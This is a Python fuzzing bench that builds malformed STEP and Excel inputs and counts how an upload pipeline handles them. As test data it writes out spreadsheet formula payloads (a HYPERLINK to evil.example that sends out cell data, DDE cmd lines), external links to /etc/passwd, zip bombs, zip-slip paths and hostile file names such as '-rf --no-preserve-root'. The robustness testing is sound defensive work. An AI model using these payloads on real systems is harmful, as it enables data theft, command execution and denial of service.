"""The hostile corpus: malformed inputs made from the real fixtures, sent through the upload API and
the inbox, and counted.

    .venv/bin/python bench/hostile_corpus.py OUT [--slice]   build the corpus into OUT (manifest.json)
    .venv/bin/python bench/run.py hostile                     build it, send it, count: bench/results/hostile.json

Families: truncations and bit flips of every STEP file and workbook; zip bombs; wrong extensions;
duplicated and huge headers (STEP headers, workbook header rows, multipart part headers); formulas,
injection payloads and external links in workbooks; NUL bytes and path tricks in file names
(symbolic links, FIFOs and folders in the inbox); a 10,000-part and deeply nested assemblies;
Unicode in file names, sheet names, headers, cells and STEP strings. Every input goes through
``POST /uploads`` (a live server) and, where a file system can hold it, straight into an inbox; the
upload sensor and the import and conversion steps then run in this process. ``--slice`` builds a
small, fast subset of every family (the test suite's).

Counted: inputs tried, server errors (5xx), crashed sensor ticks and steps that failed without a
class, inputs without a recorded class and reason, reasons that name a Python built-in exception
(our code failed and a catch-all classed it), and uploads lost (accepted, then gone from the inbox
or changed there).
"""

from __future__ import annotations

import builtins
import gzip
import hashlib
import io
import json
import os
import random
import re
import secrets
import struct
import sys
import zipfile
from collections.abc import Callable
from dataclasses import asdict, dataclass, field
from pathlib import Path

REPO = Path(__file__).resolve().parents[1]
if str(REPO) not in sys.path:
    sys.path.insert(0, str(REPO))

ISO_END = b"END-ISO-10303-21;"


@dataclass
class Input:
    """One hostile input: the name a client gives it and its bytes (``files/<id>``)."""

    id: str
    family: str
    name: str  # as a client names it: may hold NUL, slashes, any Unicode
    multipart: str | None = None  # a malformed request body of this kind (API only)
    inbox: str | None = None  # "symlink", "fifo" or "folder": a file-system trick (inbox only)


@dataclass
class Spec:
    input: Input
    make: Callable[[], bytes]
    slice: bool = False  # in the small slice the test suite sends


# Building blocks, each from a real file.


def _cut(data: bytes, share: float) -> bytes:
    return data[: max(1, int(len(data) * share))]


def _flip(data: bytes, seed: str, flips: int, start: float = 0.0, end: float = 1.0) -> bytes:
    rng = random.Random(seed)
    out = bytearray(data)
    low, high = int(len(out) * start), max(int(len(out) * start) + 1, int(len(out) * end) - 1)
    for _ in range(flips):
        at = rng.randrange(low, high)
        out[at] ^= 1 << rng.randrange(8)
    return bytes(out)


def _data_section(step: bytes) -> int:
    match = re.search(rb"\bDATA\s*;", step, re.I)
    return match.end() if match else len(step) // 2


def _replace_schema(step: bytes, schema: bytes) -> bytes:
    return re.sub(rb"FILE_SCHEMA\s*\(\s*\([^;]*\)\s*\)\s*;", b"FILE_SCHEMA((" + schema + b"));", step, count=1)


def _zip(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _members(xlsx: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        return {m.filename: archive.read(m) for m in archive.infolist()}


def _lying_sizes(xlsx: bytes, big: int) -> bytes:
    """A workbook whose sheet inflates to ``big`` bytes while its headers declare a few hundred."""
    members = _members(xlsx)
    sheet = members["xl/worksheets/sheet1.xml"]
    members["xl/worksheets/sheet1.xml"] = sheet + b" " * big
    data = bytearray(_zip(members))
    declared = len(sheet)
    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):  # local, central: uncompressed size
        start = 0
        while (at := data.find(signature, start)) >= 0:
            name_length = struct.unpack_from("<H", data, at + (26 if signature == b"PK\x03\x04" else 28))[0]
            name_at = at + (30 if signature == b"PK\x03\x04" else 46)
            if data[name_at : name_at + name_length] == b"xl/worksheets/sheet1.xml":
                struct.pack_into("<I", data, at + offset, declared)
            start = at + 4
    return bytes(data)


def _product_list(bom: Path, edit: Callable | None = None) -> bytes:
    """The real bill of materials (merged title row, formulas, supplier links) as a product list:
    its part names under a German name header, a PIM-ID column and a CAD file column added."""
    from openpyxl import load_workbook

    workbook = load_workbook(bom)
    sheet = workbook.active
    sheet["A2"], sheet["F2"], sheet["H2"] = "Bezeichnung", "Sachnummer", "CAD-Datei"
    for row in range(3, sheet.max_row + 1):
        sheet.cell(row, 6, f"QDD-{row:03d}")
    if edit:
        edit(workbook)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _with_external_link(xlsx: bytes, target: str) -> bytes:
    """A workbook whose PIM-IDs are formulas into an external workbook at ``target`` (cached values kept)."""
    members = _members(xlsx)
    members["xl/externalLinks/externalLink1.xml"] = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        b'<externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook></externalLink>'
    )
    members["xl/externalLinks/_rels/externalLink1.xml.rels"] = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'externalLinkPath" Target="' + target.encode() + b'" TargetMode="External"/></Relationships>'
    )
    members["xl/_rels/workbook.xml.rels"] = members["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>",
        b'<Relationship Id="rIdX1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'externalLink" Target="externalLinks/externalLink1.xml"/></Relationships>',
    )
    members["xl/workbook.xml"] = re.sub(
        rb"(</sheets>)",
        rb'\1<externalReferences><externalReference r:id="rIdX1"/></externalReferences>',
        members["xl/workbook.xml"],
        count=1,
    )
    members["[Content_Types].xml"] = members["[Content_Types].xml"].replace(
        b"</Types>",
        b'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/'
        b'vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>',
    )
    sheet = members["xl/worksheets/sheet1.xml"]  # every PIM-ID cell: a formula into [1]Sheet1, value kept
    members["xl/worksheets/sheet1.xml"] = re.sub(
        rb'<c r="F(\d+)"([^>]*)t="s"([^>]*)><v>(\d+)</v></c>',
        rb'<c r="F\1"\2t="s"\3><f>[1]Sheet1!A\1</f><v>\4</v></c>',
        sheet,
    )
    return _zip(members)


def _raw_sheet_workbook(xlsx: bytes, rows: list[list[str]], sheet_name: str | None = None) -> bytes:
    """The workbook with its first sheet's cells replaced by inline strings (any XML-legal text)."""
    from xml.sax.saxutils import escape, quoteattr

    members = _members(xlsx)
    body = "".join(
        f'<row r="{r}">'
        + "".join(
            f'<c r="{_column(c)}{r}" t="inlineStr"><is><t xml:space="preserve">{escape(v)}</t></is></c>'
            for c, v in enumerate(row)
        )
        + "</row>"
        for r, row in enumerate(rows, start=1)
    )
    members["xl/worksheets/sheet1.xml"] = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        f"{body}</sheetData></worksheet>"
    ).encode()
    if sheet_name is not None:
        members["xl/workbook.xml"] = re.sub(
            rb'(<sheet [^>]*name=)"[^"]*"',
            lambda m: m.group(1) + quoteattr(sheet_name).encode(),
            members["xl/workbook.xml"],
            count=1,
        )
    return _zip(members)


def _column(index: int) -> str:
    name = ""
    index += 1
    while index:
        index, rest = divmod(index - 1, 26)
        name = chr(65 + rest) + name
    return name


def assembly(part: Path, count: int = 0, depth: int = 0) -> bytes:
    """A real part as ``count`` instances side by side, or nested ``depth`` assemblies deep
    (OpenCascade's own writer, so the file is what a CAD system would write)."""
    import tempfile

    from OCP.collections import Sequence_TDF_Label
    from OCP.gp import gp_Trsf, gp_Vec
    from OCP.IFSelect import IFSelect_RetDone
    from OCP.STEPCAFControl import STEPCAFControl_Reader, STEPCAFControl_Writer
    from OCP.STEPControl import STEPControl_AsIs
    from OCP.TCollection import TCollection_ExtendedString
    from OCP.TDataStd import TDataStd_Name
    from OCP.TDocStd import TDocStd_Document
    from OCP.TopLoc import TopLoc_Location
    from OCP.XCAFDoc import XCAFDoc_DocumentTool

    doc = TDocStd_Document(TCollection_ExtendedString("MDTV-XCAF"))
    reader = STEPCAFControl_Reader()
    reader.SetNameMode(True)
    assert reader.ReadFile(str(part)) == IFSelect_RetDone
    reader.Transfer(doc)
    tool = XCAFDoc_DocumentTool.ShapeTool_s(doc.Main())
    roots = Sequence_TDF_Label()
    tool.GetFreeShapes(roots)
    child = roots.Value(1)

    def place(x: float, y: float) -> TopLoc_Location:
        move = gp_Trsf()
        move.SetTranslation(gp_Vec(x, y, 0))
        return TopLoc_Location(move)

    if count:
        grid = tool.NewShape()
        TDataStd_Name.Set_s(grid, TCollection_ExtendedString(f"{count} parts"))
        side = int(count**0.5) + 1
        for i in range(count):
            tool.AddComponent(grid, child, place((i % side) * 5.0, (i // side) * 5.0))
    for level in range(depth):
        assembly = tool.NewShape()
        TDataStd_Name.Set_s(assembly, TCollection_ExtendedString(f"level {depth - level}"))
        tool.AddComponent(assembly, child, place(0.1, 0))
        child = assembly
    tool.UpdateAssemblies()
    writer = STEPCAFControl_Writer()
    writer.Transfer(doc, STEPControl_AsIs)
    with tempfile.TemporaryDirectory() as folder:
        out = Path(folder) / "assembly.step"
        writer.Write(str(out))
        return out.read_bytes()


def specs(fixtures: Path) -> list[Spec]:
    """Every input of the corpus, made lazily (the 10,000-part assembly takes a while)."""
    steps = sorted(p for p in (fixtures / "step").rglob("*") if p.is_file())
    workbooks = sorted(p for p in (fixtures / "xlsx").rglob("*.xlsx"))
    bom = fixtures / "xlsx" / "ckraft-qdd" / "BOM.xlsx"
    screw, block = (
        fixtures / "step" / "occt" / "screw.step",
        fixtures / "step" / "occt-pr946" / "bug31000_InSensitive.stp",
    )
    out: list[Spec] = []

    def add(id_: str, family: str, name: str, make: Callable[[], bytes], small: bool = False, **extra) -> None:
        out.append(Spec(Input(id_, family, name, **extra), make, small))

    for n, path in enumerate(steps):  # truncations: cut off, cut with the end marker put back, nearly whole
        data = path.read_bytes
        add(f"step-cut-half-{n}", "truncation", path.name, lambda d=data: _cut(d(), 0.5), small=n % 7 == 0)
        add(
            f"step-cut-mended-{n}",
            "truncation",
            path.name,
            lambda d=data: _cut(d(), 0.6) + b"\n" + ISO_END + b"\n",
            small=n % 7 == 1,
        )
        add(f"step-cut-tail-{n}", "truncation", path.name, lambda d=data: d()[: -len(ISO_END) - 3], small=n % 7 == 2)
    for n, path in enumerate(steps[:12]):  # bit flips: in the data, in the header
        data = path.read_bytes
        add(
            f"step-flip-data-{n}",
            "bit_flip",
            path.name,
            lambda d=data, n=n: (lambda b: _flip(b, f"data{n}", 8, _data_section(b) / len(b)))(d()),
            small=n % 6 == 0,
        )
        add(f"step-flip-header-{n}", "bit_flip", path.name, lambda d=data, n=n: _flip(d(), f"head{n}", 2, 0, 0.01))

    s = screw.read_bytes
    header_end = lambda b: re.search(rb"ENDSEC\s*;", b).end()  # noqa: E731
    add(
        "step-header-twice",
        "header",
        "twice.step",
        lambda: (lambda b: b[: header_end(b)] + b[13 : header_end(b)] + b[header_end(b) :])(s()),
        small=True,
    )
    add(
        "step-header-huge",
        "header",
        "huge-header.step",
        lambda: s().replace(b"FILE_DESCRIPTION((", b"FILE_DESCRIPTION(('" + b"x" * (2 << 20) + b"',", 1),
    )
    add("step-header-no-schema", "header", "no-schema.step", lambda: re.sub(rb"FILE_SCHEMA[^;]*;", b"", s(), count=1))
    add(
        "step-header-100-schemas", "header", "schemas.step", lambda: _replace_schema(s(), b",".join([b"'AP242'"] * 100))
    )
    add("step-header-blank-lead", "header", "blank-lead.step", lambda: b"\n" * 6000 + s(), small=True)
    add("step-header-bom", "header", "bom.step", lambda: b"\xef\xbb\xbf" + s())
    add(
        "step-header-only",
        "header",
        "header-only.step",
        lambda: s()[: header_end(s())] + b"\nDATA;\nENDSEC;\n" + ISO_END,
    )
    add("step-trailing-garbage", "header", "trailing.step", lambda: s() + b"\n" + os.urandom(4096), small=True)
    add("step-cr-only", "header", "cr-only.step", lambda: s().replace(b"\r\n", b"\r").replace(b"\n", b"\r"))
    add(
        "step-dangling-refs",
        "header",
        "dangling.step",
        lambda: re.sub(rb"#(\d+)\s*\)", lambda m: b"#9" + m.group(1) + b"9)", s()),
    )
    add(
        "step-self-reference",
        "header",
        "cycle.step",
        lambda: re.sub(rb"(#(\d+)\s*=\s*\w+\s*\(\s*'[^']*'\s*,)\s*#\d+", rb"\1 #\2", s()),
    )

    add("step-10000-parts", "assembly", "grid-10000.step", lambda: assembly(block, count=10_000))
    add("step-300-parts", "assembly", "grid-300.step", lambda: assembly(block, count=300), small=True)
    add("step-nested-100", "assembly", "nested-100.step", lambda: assembly(block, depth=100))
    add("step-nested-1000", "assembly", "nested-1000.step", lambda: assembly(block, depth=1000), small=True)

    b = block.read_bytes
    add(
        "step-unicode-x2",
        "unicode",
        "軸受 6204.step",
        lambda: b().replace(b"'SOLID'", b"'\\X2\\8EF853D7\\X0\\ 6204'"),
        small=True,
    )
    add(
        "step-unicode-utf8",
        "unicode",
        "Wälzlager 🚀.stp",
        lambda: b().replace(b"'SOLID'", "'Wälzlager 🚀 軸受'".encode()),
    )
    add("step-unicode-invalid", "unicode", "\u202egpj.step", lambda: b().replace(b"'SOLID'", b"'\xff\xfe\xc3('"))
    add("step-unicode-nul", "unicode", "nul-inside.step", lambda: b().replace(b"'SOLID'", b"'SO\x00LID'"))

    add("step-empty", "empty", "empty.step", lambda: b"", small=True)
    add("step-one-byte", "empty", "one.step", lambda: b"I")
    add("step-magic-only", "empty", "magic.step", lambda: b"ISO-10303-21;")
    add("step-random", "empty", "random.stp", lambda: random.Random(1).randbytes(65536))
    add("step-gzip", "empty", "packed.step", lambda: gzip.compress(s(), mtime=0))
    add(
        "step-long-line",
        "empty",
        "long-line.step",
        lambda: s().replace(b"DATA;", b"DATA;\n/*" + b"y" * (5 << 20) + b"*/", 1),
    )

    x = bom.read_bytes
    product_list = lambda edit=None: _product_list(bom, edit)  # noqa: E731
    add("wrong-step-as-xlsx", "wrong_extension", "model.xlsx", s, small=True)
    add("wrong-xlsx-as-step", "wrong_extension", "products.step", x, small=True)
    add("wrong-step-upper", "wrong_extension", "SCREW.STP", s)
    add("wrong-double-suffix", "wrong_extension", "model.step.xlsx", s)
    add("wrong-png-as-stp", "wrong_extension", "picture.stp", lambda: b"\x89PNG\r\n\x1a\n" + bytes(200))
    add("wrong-pdf-as-xlsx", "wrong_extension", "list.xlsx", lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + bytes(500))
    add(
        "wrong-html-as-xlsx",
        "wrong_extension",
        "export.xlsx",
        lambda: b"<html><body><table><tr><td>PIM</td></tr></table></body></html>",
    )
    add("wrong-csv-as-xlsx", "wrong_extension", "list-csv.xlsx", lambda: b"Sachnummer;Bezeichnung\nA-1;Lager\n")
    add("wrong-xls-magic", "wrong_extension", "legacy.xlsx", lambda: bytes.fromhex("d0cf11e0a1b11ae1") + bytes(4096))
    add(
        "wrong-igs",
        "wrong_extension",
        "part.igs",
        lambda: b"                                                                        S      1\n",
    )
    add("wrong-stpz", "wrong_extension", "part.stpZ", lambda: gzip.compress(s(), mtime=0))
    add("wrong-xlsm", "wrong_extension", "macro.xlsm", x)
    add("wrong-no-suffix", "wrong_extension", "products", x)

    for n, path in enumerate(workbooks):
        data = path.read_bytes
        for share in (0.1, 0.5, 0.97):
            add(
                f"xlsx-cut-{n}-{share}",
                "truncation",
                path.name,
                lambda d=data, s_=share: _cut(d(), s_),
                small=n == 0 and share == 0.5,
            )
        for where, (start, end) in {"head": (0, 0.02), "middle": (0.3, 0.7), "directory": (0.9, 1.0)}.items():
            add(
                f"xlsx-flip-{where}-{n}",
                "bit_flip",
                path.name,
                lambda d=data, w=where, a=start, e=end, n=n: _flip(d(), f"{w}{n}", 4, a, e),
                small=n == 1 and where == "middle",
            )

    add(
        "zip-bomb-honest",
        "zip_bomb",
        "bomb.xlsx",
        lambda: (lambda m: _zip(m | {"xl/worksheets/sheet1.xml": m["xl/worksheets/sheet1.xml"] + b" " * (400 << 20)}))(
            _members(x())
        ),
        small=True,
    )
    add("zip-bomb-lying", "zip_bomb", "liar.xlsx", lambda: _lying_sizes(x(), 400 << 20))
    add(
        "zip-10000-members",
        "zip_bomb",
        "members.xlsx",
        lambda: _zip(_members(x()) | {f"xl/media/m{i}.bin": b"" for i in range(10_000)}),
    )
    add(
        "zip-nested",
        "zip_bomb",
        "nested.xlsx",
        lambda: _zip(_members(x()) | {"xl/embeddings/inner.zip": _zip({"a": b"\0" * (50 << 20)})}),
    )
    add(
        "zip-traversal",
        "zip_bomb",
        "traversal.xlsx",
        lambda: _zip(_members(x()) | {"../../../../tmp/evil.xml": b"<x/>"}),
        small=True,
    )
    add("zip-stored", "zip_bomb", "stored.xlsx", lambda: _zip(_members(x()), zipfile.ZIP_STORED))

    def formulas(workbook) -> None:  # PIM-IDs and names as formulas with no cached value
        for row in range(3, 30):
            workbook.active.cell(row, 6, f'=CONCATENATE("F-",ROW())&"{row}"')
            workbook.active.cell(row, 1, "=A1")

    def injection(workbook) -> None:  # text a spreadsheet would run if it were written back as a formula
        payloads = [
            '=HYPERLINK("http://evil.example/?"&A3,"click")',
            "=cmd|' /C calc'!A0",
            "+1+1",
            "-2+3",
            "@SUM(1,1)",
            "=1/0",
        ]
        for row, text in enumerate(payloads, start=3):
            workbook.active.cell(row, 6, text).data_type = "s"
            workbook.active.cell(row, 1, text).data_type = "s"

    add("formula-uncached", "formula", "formulas.xlsx", lambda: product_list(formulas), small=True)
    add("formula-injection", "formula", "injection.xlsx", lambda: product_list(injection), small=True)
    add(
        "formula-external-file",
        "formula",
        "external-file.xlsx",
        lambda: _with_external_link(product_list(), "file:///etc/passwd"),
    )
    add(
        "formula-external-url",
        "formula",
        "external-url.xlsx",
        lambda: _with_external_link(product_list(), "https://evil.example/prices.xlsx"),
        small=True,
    )
    add("formula-plain", "formula", "plain-products.xlsx", lambda: product_list(), small=True)
    add("formula-dde", "formula", "dde.xlsx", lambda: product_list(lambda w: w.active.cell(3, 7, "=cmd|'/C calc'!A0")))

    unicode_rows = [
        ["Ｓａｃｈｎｕｍｍｅｒ", "Ｂｅｚｅｉｃｈｎｕｎｇ"],
        ["U-1", "Lager\u200d🚀 軸受 e\u0301"],
    ]
    add(
        "unicode-sheet-name",
        "unicode",
        "Produkte 製品.xlsx",
        lambda: _raw_sheet_workbook(
            product_list(),
            [
                ["Sachnummer", "Bezeichnung", "CAD-Datei"],
                ["軸受-1", "Kugellager 軸受 🚀", "軸受 6204.step"],
                ["\u202eRTL", "\u202egnaL", ""],
                ["Z\u0308\u0301", "combining", ""],
                ["😀" * 60, "emoji id", ""],
            ],
            "製品 🚀 ﷽",
        ),
        small=True,
    )
    add(
        "unicode-fullwidth-headers",
        "unicode",
        "fullwidth.xlsx",
        lambda: _raw_sheet_workbook(product_list(), unicode_rows),
    )
    add(
        "unicode-control-chars",
        "unicode",
        "controls.xlsx",
        lambda: _raw_sheet_workbook(
            product_list(),
            [["Sachnummer", "Bezeichnung"], ["C-1", "tab\there"], ["C-2", "line\nbreak"], ["C-3", "\u2028sep"]],
        ),
    )
    add(
        "unicode-surrogate-escape",
        "unicode",
        "escapes.xlsx",
        lambda: product_list(lambda w: w.active.cell(3, 1, "_xD800_ _x0000_ _xFFFF_")),
    )
    add(
        "unicode-bidi-pim",
        "unicode",
        "bidi.xlsx",
        lambda: product_list(lambda w: [w.active.cell(r, 6, f"\u202e{r}-QDD\u202c") for r in range(3, 20)]),
    )

    add(
        "header-repeated",
        "header",
        "repeated.xlsx",
        lambda: _raw_sheet_workbook(product_list(), [["Sachnummer", "Bezeichnung"]] * 3 + [["R-1", "one"]]),
        small=True,
    )
    add(
        "header-too-deep",
        "header",
        "deep-header.xlsx",
        lambda: _raw_sheet_workbook(product_list(), [[""]] * 40 + [["Sachnummer", "Bezeichnung"], ["D-1", "deep"]]),
    )
    add(
        "header-huge-cells",
        "header",
        "huge-cells.xlsx",
        lambda: _raw_sheet_workbook(
            product_list(), [["Sachnummer", "Bezeichnung", "H" * 32000], ["H-1", "n" * 32000, "v" * 32000]]
        ),
    )
    add(
        "header-duplicate-columns",
        "header",
        "two-pim.xlsx",
        lambda: _raw_sheet_workbook(
            product_list(), [["Sachnummer", "Bezeichnung", "Sachnummer"], ["A-1", "first", "B-1"]]
        ),
    )
    add(
        "header-16384-columns",
        "header",
        "wide.xlsx",
        lambda: _raw_sheet_workbook(
            product_list(),
            [["Sachnummer", "Bezeichnung"] + [f"c{i}" for i in range(16382)], ["W-1", "wide"] + ["v"] * 16382],
        ),
    )
    add(
        "header-whole-grid",
        "header",
        "whole-grid.xlsx",
        lambda: (fixtures / "xlsx" / "calamine" / "issue_174.xlsx").read_bytes(),
    )
    add(
        "header-only-rows",
        "header",
        "no-rows.xlsx",
        lambda: _raw_sheet_workbook(product_list(), [["Sachnummer", "Bezeichnung"]]),
    )

    names = {  # a valid workbook or STEP file under a hostile name
        "name-nul": "pro\x00ducts.xlsx",
        "name-traversal": "../../../etc/passwd.step",
        "name-windows-traversal": "..\\..\\boot.ini.stp",
        "name-absolute": "/srv/automat/uploads/other/products.xlsx",
        "name-drive": "C:\\Users\\x\\Desktop\\products.xlsx",
        "name-device": "CON.step",
        "name-long": "l" * 4000 + ".step",
        "name-empty": "",
        "name-suffix-only": ".step",
        "name-dots": "....xlsx",
        "name-rtl": "\u202expsl.step",
        "name-fullwidth": "ｐｒｏｄｕｃｔｓ.xlsx",
        "name-nfd": "A\u0308rger.step",
        "name-emoji": "🚀.step",
        "name-percent": "%2e%2e%2f%2e%2e%2fx.step",
        "name-quotes": 'a";b=c.step',
        "name-newline": "line\nbreak.step",
        "name-hidden": ".hidden.xlsx",
        "name-lock": "~$products.xlsx",
        "name-dash": "-rf --no-preserve-root.step",
    }
    for n, (id_, name) in enumerate(names.items()):
        add(id_, "name", name, x if name.endswith("xlsx") else s, small=n % 4 == 0)

    for kind in (
        "duplicate_disposition",
        "huge_part_header",
        "two_files",
        "unterminated",
        "rfc5987_only",
        "no_disposition",
        "boundary_in_content",
        "empty_body",
    ):
        add(
            f"multipart-{kind}",
            "multipart",
            "products.xlsx",
            x,
            small=kind in ("two_files", "huge_part_header"),
            multipart=kind,
        )

    add("inbox-symlink-out", "name", "link.step", lambda: b"/etc/hostname", small=True, inbox="symlink")
    add("inbox-fifo", "name", "pipe.step", lambda: b"", small=True, inbox="fifo")
    add("inbox-folder", "name", "folder.xlsx", lambda: b"", inbox="folder")
    add("inbox-case-twin", "name", "Twin.STEP", s)
    add("inbox-case-twin-2", "name", "twin.step", b)
    return out


def build(out: Path, fixtures: Path, small: bool = False) -> list[Input]:
    """Write the corpus: ``files/<id>`` and ``manifest.json``."""
    (out / "files").mkdir(parents=True, exist_ok=True)
    inputs = []
    for spec in specs(fixtures):
        if small and not spec.slice:
            continue
        (out / "files" / spec.input.id).write_bytes(spec.make())
        inputs.append(spec.input)
    (out / "manifest.json").write_text(json.dumps([asdict(i) for i in inputs], indent=1, ensure_ascii=False))
    return inputs


def load(corpus: Path) -> list[Input]:
    return [Input(**i) for i in json.loads((corpus / "manifest.json").read_text())]


# Sending and counting.

STEP_SUFFIXES = (".step", ".stp")
EXCEPTION_NAME = re.compile(r"\b[A-Z][A-Za-z]*(?:Error|Exception)\b")
TEMPORARY = (".", "~$")  # names the inbox ignores by rule: partial uploads, editors' lock files


@dataclass
class Outcome:
    """What became of one input in one channel."""

    channel: str  # "api" | "inbox"
    id: str
    family: str
    name: str
    stored: str | None = None  # the inbox file it became
    sha256: str | None = None
    http_status: int | None = None
    error_class: str | None = None  # the class it was recorded with ("ok" when it was accepted)
    reason: str | None = None
    server_error: bool = False
    lost: bool = False
    ignored: str | None = None  # why the inbox ignores it by rule (not an input it owes a record)
    details: dict = field(default_factory=dict)

    @property
    def recorded(self) -> bool:
        return bool(self.ignored) or bool(self.error_class and self.reason)

    @property
    def python_error(self) -> str | None:
        """A Python built-in exception its reason names (a KeyError, a RecursionError): our code
        failed on the input and a catch-all gave that a class, which the count must not hide."""
        for name in EXCEPTION_NAME.findall(self.reason or ""):
            found = getattr(builtins, name, None)
            if isinstance(found, type) and issubclass(found, BaseException):
                return name
        return None


def request_body(input: Input, content: bytes) -> tuple[bytes, str]:
    """A multipart body as a client sends it, or malformed the way ``input.multipart`` says."""
    boundary = secrets.token_hex(16)
    b = boundary.encode()
    name = input.name.encode("utf-8", "surrogateescape").replace(b'"', b"%22")  # as browsers escape it
    disposition = b'Content-Disposition: form-data; name="file"; filename="' + name + b'"'
    headers = [disposition, b"Content-Type: application/octet-stream"]
    tail = b"\r\n--" + b + b"--\r\n"
    kind = input.multipart
    if kind == "duplicate_disposition":
        headers.insert(1, b'Content-Disposition: form-data; name="file"; filename="other.step"')
    elif kind == "huge_part_header":
        headers.append(b"X-Padding: " + b"p" * (1 << 20))
    elif kind == "rfc5987_only":
        headers[0] = b"Content-Disposition: form-data; name=\"file\"; filename*=UTF-8''%C3%84rger.xlsx"
    elif kind == "no_disposition":
        headers = headers[1:]
    elif kind == "unterminated":
        tail = b""
    elif kind == "boundary_in_content":
        content = content[:100] + b"\r\n--" + b + b"\r\ngarbage" + content[100:]
    elif kind == "empty_body":
        return b"", f"multipart/form-data; boundary={boundary}"
    part = b"--" + b + b"\r\n" + b"\r\n".join(headers) + b"\r\n\r\n" + content
    if kind == "two_files":
        second = b'Content-Disposition: form-data; name="file"; filename="second.step"\r\n\r\n'
        part += b"\r\n--" + b + b"\r\n" + second + b"ISO-10303-21;"
    return part + tail, f"multipart/form-data; boundary={boundary}"


def on_disk(name: str) -> str | None:
    """The nearest name a file system holds for ``name`` (NUL and slash look-alikes), or None."""
    name = name.replace("\x00", "\u2400").replace("/", "\u2215")
    if name in ("", ".", "..") or len(name.encode()) > 255:
        return None
    return name


def catalogue_row(pim_id: str, file_name: str) -> list[str]:
    """A product naming ``file_name``: in the STEP file column when a catalogue can hold it as
    written, else by its stem as the PIM-ID (what the sensor also matches)."""
    from automat_pipeline.catalog import cell_text

    if cell_text(file_name) == file_name and "/" not in file_name and "\\" not in file_name:
        return [pim_id, f"hostile input {pim_id}", file_name]
    return [cell_text(Path(file_name).stem) or pim_id, f"hostile input {pim_id}", ""]


def product_list(rows: list[list[str]]) -> bytes:
    from openpyxl import Workbook

    workbook = Workbook()
    for row in [["Sachnummer", "Bezeichnung", "CAD-Datei"], *rows]:
        workbook.active.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def batches(inputs: list[Input]) -> list[list[Input]]:
    """Inputs in rounds in which no two share a name: a second file of one name is a new version,
    which a client sends after the first was processed."""
    rounds: list[list[Input]] = []
    seen: dict[str, int] = {}
    for i in inputs:
        n = seen.get(i.name, 0)
        seen[i.name] = n + 1
        while len(rounds) <= n:
            rounds.append([])
        rounds[n].append(i)
    return rounds


class Pipeline:
    """The upload sensor and the import and conversion steps, in this process, as the daemon would
    run them (runs deduplicated by run key); what crashed is counted."""

    def __init__(self, database_url: str, uploads_dir: Path, media_dir: Path):
        from dagster import DagsterInstance

        from automat_pipeline.defs.resources import Database, MediaStore

        self.resources = {
            "database": Database(url=database_url),
            "media": MediaStore(uploads_dir=str(uploads_dir), media_dir=str(media_dir)),
        }
        self.instance = DagsterInstance.ephemeral()
        self.cursor: str | None = None
        self.run_keys: set[str] = set()
        self.crashed_ticks: list[str] = []
        self.unclassified: list[str] = []  # step failures without a class: an exception escaped
        self.runs = 0

    def settle(self) -> None:
        """Tick and run until the sensor has nothing new."""
        from dagster import SkipReason, build_sensor_context

        from automat_pipeline.defs.jobs import import_catalog_job
        from automat_pipeline.defs.uploads.sensor import upload_sensor

        for _ in range(10):
            context = build_sensor_context(instance=self.instance, cursor=self.cursor, resources=self.resources)
            try:
                result = upload_sensor(context)
            except Exception as error:  # noqa: BLE001 - a crashed tick is what this counts
                self.crashed_ticks.append(f"{type(error).__name__}: {error}"[:500])
                return
            if isinstance(result, SkipReason):
                return
            self.cursor = result.cursor
            for request in result.dynamic_partitions_requests or []:
                self.instance.add_dynamic_partitions(request.partitions_def_name, list(request.partition_keys))
            fresh = [r for r in result.run_requests if r.run_key not in self.run_keys]
            if not fresh:
                return
            for request in fresh:
                self.run_keys.add(request.run_key)
                catalog = request.job_name == import_catalog_job.name
                for key in [request.partition_key] if request.partition_key else self.batch(request.tags):
                    self.materialize(catalog, request, key)

    def batch(self, request_tags: dict) -> list[str]:
        """The products of a batch request (a range of product partitions, in their order): run one
        by one here, so that each input's outcome is its own run's."""
        from dagster._core.storage.tags import ASSET_PARTITION_RANGE_END_TAG, ASSET_PARTITION_RANGE_START_TAG

        order = self.instance.get_dynamic_partitions("products")
        start, end = request_tags[ASSET_PARTITION_RANGE_START_TAG], request_tags[ASSET_PARTITION_RANGE_END_TAG]
        return order[order.index(start) : order.index(end) + 1]

    def materialize(self, catalog: bool, request, key: str) -> None:
        from dagster import materialize

        from automat_pipeline.defs.cad.assets import cad_conversion, step_file
        from automat_pipeline.defs.catalog.assets import catalog_report, product_catalog

        # The media chain up to the production GLB: thumbnails (Blender) are not in this corpus.
        outcome = materialize(
            [product_catalog, catalog_report] if catalog else [step_file, cad_conversion],
            partition_key=key,
            run_config=request.run_config if catalog else None,
            instance=self.instance,
            resources=self.resources,
            raise_on_error=False,
        )
        self.runs += 1
        for event in outcome.all_events:
            if event.is_step_failure:
                failure = event.step_failure_data.user_failure_data
                if failure is None or "error_class" not in failure.metadata:
                    error = event.step_failure_data.error
                    self.unclassified.append(f"{key} {event.step_key}: {error.message.strip() if error else '?'}"[:500])


def sha(path: Path) -> str:
